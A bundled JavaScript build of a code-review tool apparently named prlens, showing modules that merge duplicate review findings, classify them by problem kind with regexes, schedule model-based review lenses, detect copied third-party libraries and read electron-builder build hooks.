;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/merge/dedupe-stage.js

/** Merges the findings that share a fingerprint, whichever lens reported them. */
function dedupe(set) {
    const findings = dedupeFindings([...set.findings, ...set.unanchored], set.lenses);
    return { ...set, findings, unanchored: [] };
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/merge/merge-window.js
/** Lines apart (in one hunk) within which findings of one problem kind merge. */
const HUNK_WINDOW = 5;
/** A statement longer than this is cut: unbalanced brackets in a hunk must not make one huge window. */
const MAX_STATEMENT_LINES = 40;
/**
 * The places of the lines of the given files' hunks, on both sides. A file's statements are read
 * on the first lookup of its path: a run with no finding in a file (a docs-only change, where no
 * rule runs) never scans its lines (issue 48).
 */
function linePlaces(files) {
    const byPath = new Map(files.map((file) => [file.path, file]));
    const places = new Map();
    const scanned = new Set();
    return (path, side, line) => {
        const file = byPath.get(path);
        if (file && !scanned.has(path)) {
            scanned.add(path);
            addPlaces(file, places);
        }
        return places.get(key(path, side, line)) ?? null;
    };
}
/** Adds the place of every line of one file's hunks, on both sides. */
function addPlaces(file, places) {
    file.hunks.forEach((hunk, index) => {
        for (const side of ['RIGHT', 'LEFT']) {
            const lines = hunk.lines
                .filter((l) => l.kind !== (side === 'RIGHT' ? 'del' : 'add'))
                .map((l) => ({ n: (side === 'RIGHT' ? l.newLine : l.oldLine) ?? 0, text: l.text }));
            for (const [first, last] of statements(lines)) {
                for (let n = first; n <= last; n++)
                    places.set(key(file.path, side, n), { hunk: index, statement: [first, last] });
            }
        }
    });
}
function key(path, side, line) {
    return `${side}:${line}:${path}`;
}
/** Splits consecutive lines into statements, as [first, last] line numbers. */
function statements(lines) {
    const spans = [];
    let depth = 0;
    let continues = false;
    for (const { n, text } of lines) {
        const code = codeOf(text);
        const current = spans[spans.length - 1];
        const joins = current !== undefined &&
            current[1] === n - 1 &&
            n - current[0] < MAX_STATEMENT_LINES &&
            (depth > 0 || continues || /^\s*(\.|\+|\?|:|&&|\|\|)/.test(code));
        if (joins)
            current[1] = n;
        else {
            spans.push([n, n]);
            depth = 0;
        }
        for (const ch of code) {
            if (ch === '(' || ch === '[')
                depth++;
            else if ((ch === ')' || ch === ']') && depth > 0)
                depth--;
        }
        continues = /(\\|,|\+|=|&&|\|\|)\s*$/.test(code);
    }
    return spans;
}
/** A line without its string literals and line comments, so their brackets do not count. */
function codeOf(text) {
    return text
        .replace(/"(?:\\.|[^"\\])*"|'(?:\\.|[^'\\])*'|`(?:\\.|[^`\\])*`/g, '""')
        .replace(/\/\/.*$|(^|\s)#.*$/, '');
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/merge/problem-kind.js
/**
 * What problem a finding is about, told without a model. The static rules and the model lenses
 * speak different vocabularies: a rule's `category` is one of five coarse families
 * (src/static/rule-file.ts: security, correctness, deprecation, reliability, maintainability) and
 * its title is a fixed message ("Shell command built from interpolated values (command
 * injection)"); a model's `category` is free text of one or two words (prompts/base.md: `injection`,
 * `null-handling`, `performance`) beside a free title. Neither category alone can be compared with
 * the other, so the kind is read from the category and the title together, by phrases that name a
 * problem. A finding may have several kinds (`eval`/`exec` of input is code injection) or none;
 * unknown is a valid answer, and the caller then does not merge on the kind.
 */
/** A problem kind and the phrases that name it (matched on lowercased words; see `words`). */
const KINDS = [
    [
        'command-injection',
        /\b(command|shell|os command) injection\b|\bshell command\b|\bsh -c\b|\bshell ?= ?true\b|\bos\.(system|popen)\b|\bruntime\.exec\b|\bcommand (built|constructed|string|line built)\b|\bexec(sync)?\b.*\b(interpolat|concat|input)|\bchild process\b|\bsubprocess\b/,
    ],
    ['sql-injection', /\bsql\b|\bsqli\b|\bquery (built|string|concatenat|interpolat)/],
    ['code-injection', /\beval\b|\bcode injection\b|\bnew function\b|\bfunction constructor\b/],
    ['xss', /\bxss\b|\bcross site scripting\b|\binnerhtml\b|\bhtml injection\b|\bdangerouslysetinnerhtml\b/],
    [
        'hardcoded-secret',
        /\bhard ?coded\b.*\b(password|secret|key|token|credential)|\b(password|secret|api key|token|credential)s?\b.*\b(hard ?coded|embedded|in (the )?source)|\bprivate key\b|\baccess key\b|\bsecret written as a literal\b|\bliteral (signing |session )?secret\b/,
    ],
    [
        'tls-verification',
        /\btls\b|\bssl\b|\bcertificate\b|\bverify ?= ?false\b|\binsecureskipverify\b|\brejectunauthorized\b/,
    ],
    ['deserialization', /\bdeserializ|\bunserializ|\bunpickl|\bpickle\b|\byaml\.load\b|\bunsafe (yaml )?load/],
    ['path-traversal', /\b(path|directory) traversal\b|\btraversal\b|\bzip slip\b/],
    ['prototype-pollution', /\bprototype pollution\b|\bproto pollution\b/],
    ['ssrf', /\bssrf\b|\bserver side request forgery\b/],
    ['directory-listing', /\bdirectory (listing|browsing|index)\b|\bserve index\b/],
    ['open-redirect', /\bopen redirect\b|\bredirect to a url (taken )?from\b/],
    ['xxe', /\bxxe\b|\bexternal entit/],
    ['redos', /\bredos\b|\bcatastrophic backtracking\b|\bregular expression built from\b/],
    ['cors', /\bcors\b|\bcross origin\b/],
    ['weak-hash', /\bmd5\b|\bsha ?1\b|\bweak (password )?hash/],
    ['jwt', /\bjwt\b|\bjson web token\b/],
    ['sandbox-escape', /\bnode:vm\b|\bvm (module|sandbox)\b|\bno sandbox\b|\bsandbox escape\b/],
    ['weak-randomness', /\b(predictable|insecure|weak) (random|token)|\bmath\.random\b|\bsecurerandom\b/],
    [
        'swallowed-error',
        /\bswallow|\bempty catch\b|\bbare except\b|\b(error|exception)s? (is |are )?ignored\b|\bignored (error|exception)|\berr(or)?\b.*\b(discarded|never checked|unchecked|not checked)|\bunchecked err/,
    ],
    [
        'null-dereference',
        /\bnull\b|\bnil\b|\bnpe\b|\bundefined (access|property|dereference)|\bnone (check|dereference|handling)/,
    ],
    ['off-by-one', /\boff by one\b|\bout of (bounds|range)\b|\bindex out\b|\bbounds check/],
    ['race-condition', /\brace\b|\bdata race\b|\bconcurren|\bthread safe|\bunsynchroniz/],
    ['unawaited-promise', /\b(never|not) awaited\b|\bunawaited\b|\bfloating promise|\bforeach\b.*\basync\b/],
    [
        'resource-leak',
        /\b(resource|memory|file|handle|connection|socket|stream|goroutine)s? leak|\bleak(s|ed|ing)? (an? |the )?(file|handle|connection|socket|resource|memory|stream)|\b(not|never) closed\b|\bunclosed\b|\btry with resources\b|\bdefer\b.*\bloop\b/,
    ],
    ['performance', /\bperformance\b|\bquadratic\b|\bn ?\+ ?1\b|\bn plus one\b|\bper (item|row|order) query/],
    ['identity-comparison', /\bcompares? (references|identity)\b|\breference equality\b|\bis comparison\b/],
    ['nan-comparison', /\bnan\b/],
    ['typeof-comparison', /\btypeof\b/],
    ['assert-always-true', /\bassert\b.*\btuple\b/],
    ['mutable-default', /\bmutable default\b|\bdefault argument\b/],
    ['deprecation', /\bdeprecat/],
    // A privileged workflow (`pull_request_target`, `workflow_run`) that checks out and runs the PR's code.
    [
        'untrusted-checkout',
        /\bpull request target\b|\bworkflow run\b|\bpwn request\b|\bcheck(s|ed|ing)? out (the )?(untrusted |forked? )?(pr|pull request)s?\b|\buntrusted (pr|pull request|fork) (code|head|branch|checkout)\b|\b(pr|pull request|forked?)s? (code|head|branch) (is |gets )?(checked out|built|run|executed)\b|\bcheckout of (the )?(untrusted|pr|pull request|fork)/,
    ],
    ['unpinned-action', /\bunpinned\b|\bnot pinned\b|\bpinned to a (movable )?(tag|branch)\b|\bmovable tag\b/],
    [
        'privileged-container',
        /\bprivileged (container|service|mode)\b|\bprivileged: ?true\b|\bprivileged\b(?!.*\bworkflow\b)/,
    ],
    ['debug-leftover', /\bdebugger\b|\bdebug (statement|code|output)\b|\bconsole\.log\b|\bstray log\b/],
];
/** The generic kind a model may give (`category: injection`): compatible with every specific injection. */
const GENERIC_INJECTION = 'injection';
const INJECTIONS = new Set(['command-injection', 'sql-injection', 'code-injection', 'xss']);
/** Lowercased text with `-`, `_`, backticks and runs of spaces read as one space. */
function words(text) {
    return text
        .toLowerCase()
        .replace(/[`'"]/g, '')
        .replace(/[-_\s]+/g, ' ');
}
let computed = 0;
/** @public How many findings' kinds were read: the merge reads them only when a pair needs them. */
function problemKindsComputed() {
    return computed;
}
/** The problem kinds a finding names in its category and title; empty when it names none known. */
function problemKinds(finding) {
    computed++;
    const text = words(`${finding.category} ${finding.title}`);
    const kinds = new Set();
    for (const [kind, pattern] of KINDS)
        if (pattern.test(text))
            kinds.add(kind);
    if (![...kinds].some((k) => INJECTIONS.has(k)) && /\binjection\b/.test(text))
        kinds.add(GENERIC_INJECTION);
    return kinds;
}
/** Whether two kind sets name a common problem (a generic injection meets any specific one). */
function kindsMeet(a, b) {
    for (const kind of a) {
        if (b.has(kind))
            return true;
        if (kind === GENERIC_INJECTION && [...b].some((k) => INJECTIONS.has(k)))
            return true;
        if (INJECTIONS.has(kind) && b.has(GENERIC_INJECTION))
            return true;
    }
    return false;
}
/** Content words of a title, for comparing wordings. */
function titleWords(title) {
    return new Set(words(title).match(/[a-z0-9$.]{3,}/g) ?? []);
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/merge/merge-findings.js
/**
 * One comment per problem. The fingerprint dedupe (merge/dedupe.ts) merges
 * findings with the same category and the same anchored line; it cannot see that a static rule's
 * `security` finding and a model's `command-injection` finding on that line are one problem, that a
 * model range N..N+1 covers a static finding on N, or that one finding was said twice under two
 * categories. This stage merges findings of one file and side that
 *   - sit on the same or overlapping lines; or, when their problem kinds agree, on adjacent lines,
 *     in one statement, or within HUNK_WINDOW lines of one hunk (merge-window.ts), and
 *   - describe the same problem: their kinds meet (problem-kind.ts); or, where a kind is unknown,
 *     their titles agree (or, both unknown, their categories are equal).
 * Two known, different kinds on one line (a hard-coded password and an SQL injection) never merge,
 * nor do two results of one tool under different rule ids (the tool itself says they are two
 * problems), and a finding joins a group only when it matches every member, so a vague finding
 * cannot chain two different problems together. A model finding the audit called a duplicate of a
 * known one (`duplicates`) joins that one wherever it sits, and the known one's location is kept.
 *
 * The merged comment has the highest severity and confidence, every source listed in its body and
 * every lens in `lens`. Its text is a prlens rule's when one is a member (the model's reading is
 * quoted below it), else the most specific (a model's over another tool's generic message). Its
 * fingerprint is a static member's when there is one (rules are deterministic, so a rerun with or
 * without the model's copy keeps the same identity and does not repost), else the smallest.
 */





/** Share of common title words (Dice) from which two wordings count as one problem. */
const SIMILAR_TITLES = 0.75;
/** Merges findings that describe one problem on the same code; order of the rest is kept. */
function mergeSameProblem(findings, lensOrder = [], options = {}) {
    const placeOf = options.placeOf ?? (() => null);
    const items = findings.map((finding) => {
        const start = finding.start_line ?? finding.line;
        let kinds;
        return {
            finding,
            // problemKinds' first call compiles its ~30 regular expressions (~3 ms of a static-only
            // review), so a run whose findings never meet a comparison that needs the kind skips it.
            get kinds() {
                return (kinds ??= problemKinds(finding));
            },
            words: titleWords(finding.title),
            start,
            first: placeOf(finding.path, finding.side, start),
            last: placeOf(finding.path, finding.side, finding.line),
        };
    });
    const { rest, attached } = attachDuplicates(items, options.duplicates);
    // A fixed order, so the groups (and so the fingerprints) do not depend on the order lenses answered in.
    const ordered = [...rest].sort((a, b) => cmp(a.finding.path, b.finding.path) ||
        cmp(a.finding.side, b.finding.side) ||
        a.start - b.start ||
        a.finding.line - b.finding.line ||
        cmp(a.finding.fingerprint, b.finding.fingerprint));
    const groupOf = new Map();
    // Groups that later findings (sorted by start line) can still reach; linear for findings far apart.
    let open = [];
    for (const item of ordered) {
        const { path, side } = item.finding;
        open = open.filter((g) => {
            const first = g.members[0].finding;
            return first.path === path && first.side === side && g.end >= reach(item);
        });
        const group = open.find((g) => g.members.every((m) => sameProblem(item, m)) && g.members.some((m) => near(item, m)));
        if (group) {
            group.members.push(item);
            group.end = Math.max(group.end, item.finding.line);
        }
        else
            open.push({ members: [item], end: item.finding.line });
        groupOf.set(item, (group ?? open[open.length - 1]).members);
    }
    const result = { findings: [], groups: [] };
    const emitted = new Set();
    for (const item of rest) {
        const group = groupOf.get(item);
        if (emitted.has(group))
            continue;
        emitted.add(group);
        const extra = group.flatMap((m) => attached.get(m) ?? []);
        if (group.length + extra.length === 1) {
            result.findings.push(item.finding);
            continue;
        }
        const known = extra.length > 0 ? group.find((m) => attached.has(m)).finding : null;
        const finding = combine([...group, ...extra].map((m) => m.finding), lensOrder, known);
        result.findings.push(finding);
        result.groups.push({ finding, sources: [...group, ...extra].map((m) => m.finding) });
    }
    return result;
}
/**
 * Takes the audit's duplicates out of the grouping: each is attached to the known finding it
 * repeats, when that one is here and is a rule's (the audit may only name a known finding).
 */
function attachDuplicates(items, duplicates) {
    const attached = new Map();
    if (!duplicates || duplicates.size === 0)
        return { rest: [...items], attached };
    const known = new Map(items.filter((i) => isRuleText(i.finding)).map((i) => [i.finding.fingerprint, i]));
    const rest = [];
    for (const item of items) {
        const target = isRuleText(item.finding)
            ? undefined
            : known.get(duplicates.get(item.finding.fingerprint) ?? '');
        if (target === undefined || target.finding.path !== item.finding.path)
            rest.push(item);
        else
            attached.set(target, [...(attached.get(target) ?? []), item]);
    }
    return { rest, attached };
}
/** The lowest line a group may end on and still reach `item`: adjacency, its hunk window, its statement. */
function reach(item) {
    const statement = item.first?.statement[0] ?? item.start;
    return Math.min(item.start - 1, item.first ? item.start - HUNK_WINDOW : item.start - 1, statement - 1);
}
function sameProblem(a, b) {
    // One tool's two rules are two problems by that tool's own account (two prlens rules, two ESLint rules).
    if (sameTool(a.finding, b.finding) && a.finding.rule !== b.finding.rule)
        return false;
    // The window joins sources, not occurrences: one source's two findings lines apart (one rule on
    // two calls, the model on two queries) are two problems, even when a third source sits between.
    if (sourceOf(a.finding) === sourceOf(b.finding) && gap(a, b) > 1)
        return false;
    if (a.kinds.size > 0 && b.kinds.size > 0)
        return kindsMeet(a.kinds, b.kinds);
    if (similarTitles(a, b))
        return true;
    // With one kind unknown only the wording can tell; with both unknown, an equal category can too.
    return a.kinds.size === 0 && b.kinds.size === 0 && sameCategory(a.finding, b.finding);
}
/**
 * Same file and side, and overlapping lines; when the problem kinds agree, also adjacent lines,
 * one statement, or one hunk within HUNK_WINDOW lines.
 */
function near(a, b) {
    if (a.finding.path !== b.finding.path || a.finding.side !== b.finding.side)
        return false;
    const apart = gap(a, b);
    if (apart <= 0)
        return true;
    if (a.kinds.size === 0 || b.kinds.size === 0 || !kindsMeet(a.kinds, b.kinds))
        return false;
    if (apart === 1)
        return true;
    const places = (i) => [i.first, i.last].filter((p) => p !== null);
    for (const p of places(a)) {
        for (const q of places(b)) {
            if (p.hunk !== q.hunk)
                continue;
            if (apart <= HUNK_WINDOW)
                return true;
            if (p.statement[0] <= q.statement[1] && q.statement[0] <= p.statement[1])
                return true;
        }
    }
    return false;
}
/** Lines between two findings' ranges: 0 or less when they overlap, 1 when adjacent. */
function gap(a, b) {
    return Math.max(a.start, b.start) - Math.min(a.finding.line, b.finding.line);
}
/** Who reported it, as far as the window cares: one tool (prlens's rules are one), or the model. */
function sourceOf(f) {
    return isStatic(f) ? 'tool:static' : f.rule !== null ? `tool:${f.lens}` : 'model';
}
/** Both from one rule-based source: prlens's static lens, or one other tool (its lens is the tool). */
function sameTool(a, b) {
    return a.rule !== null && b.rule !== null && a.lens === b.lens && isRuleText(a) && isRuleText(b);
}
function similarTitles(a, b) {
    if (a.words.size === 0 || b.words.size === 0)
        return false;
    let common = 0;
    for (const w of a.words)
        if (b.words.has(w))
            common++;
    return (2 * common) / (a.words.size + b.words.size) >= SIMILAR_TITLES;
}
function sameCategory(a, b) {
    const norm = (c) => c
        .trim()
        .toLowerCase()
        .replace(/[\s_]+/g, '-');
    return norm(a.category) === norm(b.category);
}
const isStatic = (f) => f.lens.split('+').includes('static');
/** A rule's finding: prlens's static lens, or another tool's result (it carries the tool's rule id). */
const isRuleText = (f) => isStatic(f) || f.rule !== null;
/** The text of a merged comment: a model's (specific to the code) over a rule's, then the gravest. */
function betterText(a, b) {
    if (isRuleText(a) !== isRuleText(b))
        return !isRuleText(a);
    const bySeverity = types/* SEVERITY_RANK */.f3[a.severity] - types/* SEVERITY_RANK */.f3[b.severity];
    if (bySeverity !== 0)
        return bySeverity > 0;
    if (a.confidence !== b.confidence)
        return a.confidence > b.confidence;
    if (a.body.length !== b.body.length)
        return a.body.length > b.body.length;
    return a.fingerprint < b.fingerprint;
}
/**
 * `at`: the finding whose location the merged comment keeps (the known one of an audit duplicate).
 * When a prlens rule is a member, its title and text lead and its own fix (or none) is the suggestion:
 * a model's wording can add to the comment but never rename the rule's finding or bring code that
 * would then pass for the rule's re-checked fix (issue 42, point 3).
 */
function combine(group, lensOrder, at = null) {
    const rules = group.filter(isPrlensRule);
    const candidates = rules.length > 0 ? rules : group;
    let primary = candidates[0];
    for (const f of candidates.slice(1))
        if (betterText(f, primary))
            primary = f;
    const place = at ?? primary;
    const severity = group.reduce((s, f) => (types/* SEVERITY_RANK */.f3[f.severity] > types/* SEVERITY_RANK */.f3[s] ? f.severity : s), primary.severity);
    const sameRange = (f) => f.line === place.line && f.start_line === place.start_line;
    const statics = group.filter(isStatic).map((f) => f.fingerprint);
    const fingerprint = [...(statics.length > 0 ? statics : group.map((f) => f.fingerprint))].sort()[0];
    const { suggestion_rule: _fromMergedSuggestion, ...text } = primary;
    return {
        ...text,
        line: place.line,
        start_line: place.start_line,
        side: place.side,
        anchor: place.anchor,
        anchored: place.anchored,
        severity,
        confidence: Math.max(...group.map((f) => f.confidence)),
        lens: mergeLensNames(group.map((f) => f.lens), lensOrder),
        ...mergedSuggestion([place, ...group], sameRange),
        body: [primary.body.trim(), modelNote(primary, group), sourcesNote(primary, group)]
            .filter((part) => part !== '')
            .join('\n\n'),
        fingerprint,
        // The static member's rule id survives the merge (SARIF files the result under that rule).
        rule: (rules[0] ?? group.find((f) => f.rule !== null))?.rule ?? null,
    };
}
/**
 * Under a rule's text, the model's own explanation, which is specific to the code: named as the
 * lens's reading, so it adds context without speaking for the rule.
 */
function modelNote(primary, group) {
    if (!isPrlensRule(primary))
        return '';
    let model;
    for (const f of group)
        if (!isRuleText(f) && (model === undefined || betterText(f, model)))
            model = f;
    if (model === undefined || model.body.trim() === '')
        return '';
    return `The ${model.lens} lens adds:\n\n${model.body.trim()}`;
}
/** Who reported a finding: `prlens rule js-eval`, `eslint: no-eval` (another tool), `security lens`. */
function sourceName(f) {
    const rule = isStatic(f) ? (f.rule ?? (0,run_static_rules/* staticRuleIdOf */.dW)(f.body)) : null;
    if (rule !== null)
        return `prlens rule \`${rule}\``;
    if (f.rule !== null)
        return `\`${f.lens}: ${f.rule}\``;
    return `${f.lens} lens`;
}
/** The merged comment's list of what reported it, the text's own source first. */
function sourcesNote(primary, group) {
    const lines = [primary, ...group.filter((f) => f !== primary)].map((f) => {
        const who = sourceName(f);
        const where = f.start_line === null ? `line ${f.line}` : `lines ${f.start_line}-${f.line}`;
        return `- ${who} (${f.severity}, ${where}): ${f.title.replace(/\s+/g, ' ').trim()}`;
    });
    return [`Merged from ${group.length} findings of the same problem:`, ...lines].join('\n');
}
function cmp(a, b) {
    return a < b ? -1 : a > b ? 1 : 0;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/merge/merge-stage.js


/** Merges the inline findings that describe one problem on the same code. */
function merge_stage_mergeSameProblem(set) {
    const merge = mergeSameProblem(set.findings, set.lenses, {
        placeOf: linePlaces(set.files.kept),
        duplicates: set.auditDuplicates,
    });
    return { ...set, findings: merge.findings, merges: [...set.merges, ...merge.groups] };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/review/known/known-prompt.js
var known_prompt = __webpack_require__(59614);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/model-lenses/model-stage.js

/** The stage that runs the model lenses in what is left of the run's time (none without a model). */
function modelLenses(model) {
    return async (set, run) => {
        // A new file that only looks generated or vendored is reviewed by the static rules and counts for
        // the gate, but is not sent to the model: a PR that vendors a dependency would otherwise send all
        // of it (README "Security model"). The base's .gitattributes is how a repository says otherwise.
        const lookalikes = new Set(set.files.unconfirmed.map((u) => u.path));
        const forModel = set.files.kept.filter((f) => !lookalikes.has(f.path));
        if (!model || forModel.length === 0)
            return set;
        // Given to the model even when its time is gone: the report says what was planned for it.
        const given = { ...set, reach: { ...set.reach, modelFiles: forModel.filter((f) => f.hunks.length > 0) } };
        if (run.context.clock.now() >= run.deadline) {
            const warning = `max-review-seconds (${run.maxReviewSeconds}) ran out before the model lenses: only the static rules ran`;
            return { ...given, warnings: [...set.warnings, warning], incomplete: true };
        }
        // Loaded here, not at the top: a static-only run (a pre-commit hook) never loads the model half
        // (plan, exec, reflect, the deep agent), about a third of the engine's code (issue 48).
        const { runModelLenses } = await Promise.all(/* import() */[__webpack_require__.e(2805), __webpack_require__.e(5968)]).then(__webpack_require__.bind(__webpack_require__, 5968));
        const result = await runModelLenses({
            context: run.context,
            change: {
                ...run.change,
                files: forModel,
                contents: set.files.contents,
                // What select left out stays out of the context too; so does a file that only looks generated.
                pathFilter: (path) => lookalikes.has(path)
                    ? 'looks generated or vendored (a new file: not sent to the model)'
                    : set.files.pathFilter(path),
            },
            model: model.client,
            settings: model.settings,
            background: model.background ?? null,
            // The model gets what is left of the run's time, not a fresh max-review-seconds of its own.
            ...(Number.isFinite(run.deadline) ? { deadline: run.deadline } : {}),
            known: (0,known_prompt/* knownFindings */.Mw)(set.findings.filter((f) => f.anchored)),
            inlineFloor: run.settings.minSeverity,
            findingsBudget: {
                max: { minor: run.settings.maxMinorFindings ?? 0, all: run.settings.maxFindings ?? 0 },
                gate: run.settings.failOn ?? [],
            },
        });
        return {
            ...given,
            ...(result.packTokens === null
                ? {}
                : {
                    reach: {
                        ...given.reach,
                        contextPackTokens: result.packTokens,
                        contextPackCutTokens: result.packCutTokens ?? 0,
                    },
                }),
            // Unplaced ones too: the verify stage decides, for every lens at once, what is inline.
            findings: [...set.findings, ...result.findings, ...result.unanchored],
            droppedByAudit: [...set.droppedByAudit, ...result.droppedByAudit],
            auditDuplicates: new Map([...set.auditDuplicates, ...result.duplicates]),
            lenses: [...set.lenses, ...result.lenses],
            warnings: [...set.warnings, ...result.warnings],
            incomplete: set.incomplete || result.incomplete,
        };
    };
}

// EXTERNAL MODULE: ./.tmp/bundle-src/review/stages/select/select-stage.js
var select_stage = __webpack_require__(37288);
// EXTERNAL MODULE: ./.tmp/bundle-src/core/code-paths.js
var code_paths = __webpack_require__(12535);
// EXTERNAL MODULE: ./.tmp/bundle-src/review/select/file-class.js
var file_class = __webpack_require__(48202);
;// CONCATENATED MODULE: ./.tmp/bundle-src/review/select/copied-library.js
/**
 * A third-party library copied into the app's own folders, told from the file's content: apps copy
 * small npm modules and browser libraries next to their code (`server/libs/<module>/index.js`,
 * `public/js/<plugin>.js`) with no `vendor` folder to name them (issue 45). Style notes on such a file
 * (a deprecated `substr`) are not the team's to fix. A folder name alone is not enough, since a PR can
 * put anything under `libs/`; the content must say the file is someone else's.
 *
 * Security first: this only turns off the rules that declare `in-copies: skip`, which rule-file.ts
 * allows only on low-severity deprecation and maintainability rules. A security rule still runs on a
 * copy at full severity, so a banner pasted above an attack hides nothing that matters.
 */

/** How far down the signs of a copy may sit: a banner, then a UMD wrapper under it. */
const HEAD_LINES = 60;
/** The leading comment block that may say where the file came from (a licence block can come first). */
const ORIGIN_COMMENT_LINES = 30;
const COMMENT_LED = /^\s*(?:\/\/|\/\*|\*)/;
/**
 * "Adapted from https://github.com/\u2026", "Source: https://\u2026", "Forked from \u2026": where the file came from,
 * said in its leading comment together with an address. The address is required: "based on the user's
 * settings" is everyday prose.
 */
const ORIGIN_NOTE = /\b(?:copied|taken|adapted|modified|forked|ported|borrowed|extracted|vendored)\s+from\b|\bbased\s+on\b|^\W*(?:source|origin(?:al)?|upstream)\s*:/im;
const ADDRESS = /\bhttps?:\/\/[^\s)'"]+/i;
/**
 * A library's own header with no licence: a version (`@version: 1.2.0`, `v1.2.0`) and the address of
 * the repository it is published from (uBlock's copy of foo123/RegexAnalyzer, fresh30).
 */
const RELEASE_VERSION = /@version\b|\bv\d+\.\d+(?:\.\d+)?\b/i;
const REPOSITORY = /\bhttps?:\/\/(?:www\.)?(?:github\.com|gitlab\.com|bitbucket\.org)\/[\w.-]+\/[\w.-]+/i;
/**
 * The universal module definition (`typeof define === 'function' && define.amd`): a library's
 * packaging so one file loads under AMD, CommonJS and a plain `<script>`. An app's own code is
 * loaded one way only and never writes it. Minifiers turn the test round (`"function"==typeof define&&define.amd`).
 */
const UMD_WRAPPER = /(?:typeof\s+define\s*===?\s*['"]function['"]|['"]function['"]\s*===?\s*typeof\s+define)\s*&&\s*define\.amd\b/;
/** Whether a JavaScript file's content shows it is a copied third-party library. */
function looksCopied(path, content) {
    if (!/\.(?:js|mjs|cjs)$/i.test(path))
        return false;
    const head = content.split('\n', HEAD_LINES);
    if ((0,file_class/* libraryBanner */.yd)(path, head) !== null)
        return true;
    if (hasOriginNote(head))
        return true;
    // A minified copy can hold its wrapper on one long first line: only the head's text is read.
    return UMD_WRAPPER.test(head.join('\n'));
}
/**
 * The file's leading comment names where it was copied from, with an address, or is a published
 * library's header: a release version and its repository's address.
 */
function hasOriginNote(head) {
    const comment = leadingComment(head);
    return ((ORIGIN_NOTE.test(comment) && ADDRESS.test(comment)) ||
        (RELEASE_VERSION.test(comment) && REPOSITORY.test(comment)));
}
/** The comment lines at the top of the file, before its first code (inside a block comment too). */
function leadingComment(head) {
    const comment = [];
    let inBlock = false;
    for (const line of head.slice(0, ORIGIN_COMMENT_LINES)) {
        const blank = line.trim() === '';
        if (!inBlock && !blank && !COMMENT_LED.test(line))
            break;
        if (!inBlock && blank && comment.length === 0)
            continue;
        comment.push(line);
        if (inBlock)
            inBlock = !line.includes('*/');
        else if (/^\s*\/\*/.test(line))
            inBlock = !line.includes('*/', line.indexOf('/*') + 2);
    }
    return comment.join('\n');
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/lockfile.js
var lockfile = __webpack_require__(92033);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/manifest.js
var static_manifest = __webpack_require__(68501);
// EXTERNAL MODULE: ./.tmp/bundle-src/core/is-record.js
var is_record = __webpack_require__(67501);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/build-hooks.js
/**
 * Which files a JavaScript project's packager runs as build hooks, as its configuration names them:
 * electron-builder's `afterPack`, `afterSign`, `beforeBuild` \u2026 take "the path to file or module id"
 * of a module whose default export it calls with its own build context (the output folder, the
 * packager, the platform; https://www.electron.build/docs/features/hooks/). Such a file runs in the
 * build, on the machine of whoever builds the app, with values the build hands it: a maintainer's
 * script, not code that serves a request (issue 45 point 2: marktext's `afterPack` strips binaries
 * at paths under electron-builder's own output folder, fresh9, graded critical as an exported
 * function's argument).
 *
 * Read from the base side only, like `package.json`'s scripts (manifest.ts): a pull request cannot
 * make its own new file a hook by naming it in the configuration it edits.
 */


/** electron-builder's hooks that name a module to run (its `Hooks` interface). */
const HOOKS = [
    'beforeBuild',
    'beforePack',
    'afterExtract',
    'afterPack',
    'afterSign',
    'artifactBuildStarted',
    'artifactBuildCompleted',
    'afterAllArtifactBuild',
    'onNodeModuleFile',
    'appxManifestCreated',
    'msiProjectCreated',
];
/**
 * The configuration files electron-builder reads beside `package.json`, in the order it looks for
 * them; the formats this reader parses (YAML, which JSON is a subset of). A `.js` or `.toml`
 * configuration is not read: its hooks stay unknown, and the files they name keep their grade.
 */
const BUILDER_CONFIGS = ['electron-builder.yml', 'electron-builder.yaml', 'electron-builder.json'];
/** Whether a manifest's package builds with electron-builder (so its configuration is worth a read). */
function usesElectronBuilder(manifest) {
    return manifest.dependencies.has('electron-builder');
}
/**
 * The hooks of an electron-builder configuration object (`package.json`'s `build`, or a whole
 * configuration file's content): the repository path of each file a hook names, resolved against
 * the project folder `dir`, \u2192 the sentence saying which hook runs it (`source` names the file in it).
 * A module id (`my-hooks`) names no file of the repository.
 */
function hooksOf(config, dir, source) {
    const hooks = new Map();
    if (!(0,is_record/* isRecord */.u)(config))
        return hooks;
    for (const hook of HOOKS) {
        const file = config[hook];
        if (typeof file !== 'string' || !/^\.{0,2}\/|\.[cm]?[jt]s$/.test(file))
            continue;
        hooks.set((0,static_manifest/* joinPath */.uJ)(dir, file), `electron-builder runs it as its \`${hook}\` hook (\`${source}\`)`);
    }
    return hooks;
}
/**
 * The hooks a configuration file's text names; none when it is no YAML or JSON object. The YAML
 * parser loads here, when a configuration is read, not with the rules (issue 48: a static-only run
 * loads it only when it needs it).
 */
async function parseBuilderConfig(text, dir, name) {
    const { parse } = await __webpack_require__.e(/* import() */ 8815).then(__webpack_require__.t.bind(__webpack_require__, 38815, 19));
    let config;
    try {
        config = parse(text);
    }
    catch {
        return new Map();
    }
    return hooksOf(config, dir, (0,static_manifest/* joinPath */.uJ)(dir, name));
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/review/stages/static-lens/manifest-reads.js



/**
 * Manifest reads a review may make over the API, out of the run's `maxFileReads`: a handful (a file
 * in a workspace package three folders deep: its folders, the package's and the root's manifests,
 * the lockfile probes beside each, and the base's manifest).
 */
const MANIFEST_READS = 12;
/** The reads left for manifests: none past the run's budget; unlimited where a read costs no request. */
function manifestReadBudget(maxFileReads, readSoFar) {
    if (!Number.isFinite(maxFileReads))
        return Infinity;
    return Math.max(0, Math.min(MANIFEST_READS, maxFileReads - readSoFar));
}
/** A reader of the manifests of one change; `factFor` is what the static rules call. */
function manifestReader(options) {
    const { workspace, headRef, baseRef, maxReads, logger } = options;
    const cache = new Map();
    let reads = 0;
    const read = (path, ref) => {
        const key = `${ref ?? ''}\0${path}`;
        let pending = cache.get(key);
        if (!pending) {
            if (reads >= maxReads)
                return Promise.resolve(undefined);
            reads++;
